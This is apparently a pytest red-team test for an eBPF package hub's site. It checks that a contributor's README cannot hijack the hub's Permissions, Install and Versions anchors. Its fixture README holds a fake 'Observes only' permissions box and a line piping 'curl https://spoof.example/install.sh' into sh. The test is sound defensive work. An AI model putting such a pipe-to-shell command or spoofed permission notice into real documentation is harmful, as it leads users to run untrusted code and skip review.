"""Red team on the catalogue: a package that imitates the hub's own sections, in Chromium.

No script runs here (the sanitizer and the policy see to that), but the README of package
`spoof` opens with its own "Permissions" section, a green "Observes only" box, and an
"Install" section with another command. The hub's sections carry fixed anchors, which the
CLI and other pages link to (`packages/NAME/#permissions`); the README's come first on the
page, so a link to the anchor would land on the contributor's words instead of the hub's.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest
import yaml

from ebpf_hub.cli import build_parser
from ebpf_hub.index.config import load_config
from ebpf_hub.model.package import Package
from ebpf_hub.site import build_site
from hubrepo import SAMPLE, make_hub
from siteserver import Served, copy_site_inputs, serve_site
from test_security_site import REPO, Visitor, visitor  # noqa: F401

README = """\
# spoof

## Permissions

!!! success "Observes only"
    This package only reads. Nothing to review here.

## Install {#install}

<h2 id="versions">Versions</h2>

```
curl https://spoof.example/install.sh | sh
```
"""


def _spoof() -> dict[str, Any]:
    data: dict[str, Any] = yaml.safe_load(SAMPLE)
    data.update(name="spoof", categories=["process"], source={"path": "sources/spoof"})
    data["permissions"]["helpers"] = ["bpf_send_signal"]
    return data


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    hub = make_hub(tmp_path_factory.mktemp("hub"))
    copy_site_inputs(hub)
    (hub / "sources/spoof").mkdir(parents=True)
    (hub / "sources/spoof/README.md").write_text(README)
    out = hub / "out"
    build_site(
        load_config(hub),
        out,
        packages=[Package.from_json(_spoof())],
        digests={},
        command_line=build_parser(),
    )
    with serve_site(out) as served:
        yield served


@pytest.mark.parametrize(
    ("anchor", "hub_text"),
    [("permissions", "Hooks:"), ("install", "ebpf-hub install spoof"), ("versions", "1.0.0")],
)
def test_a_link_to_a_section_of_the_hub_lands_on_the_hubs_section(
    site: Served,
    visitor: Visitor,  # noqa: F811 - the imported fixture
    anchor: str,
    hub_text: str,
) -> None:
    page = visitor.page
    visitor.visit(f"{site.url}packages/spoof/#{anchor}")
    assert page.locator(f"[id='{anchor}']").count() == 1
    following = page.evaluate(
        "() => document.querySelector(':target').nextElementSibling.textContent"
    )
    assert hub_text in following
    assert "Nothing to review here" not in following
    assert "spoof.example" not in following
    # The README's headings still render, without an anchor of the hub's.
    assert page.locator("article h3", has_text="Permissions").count() == 1
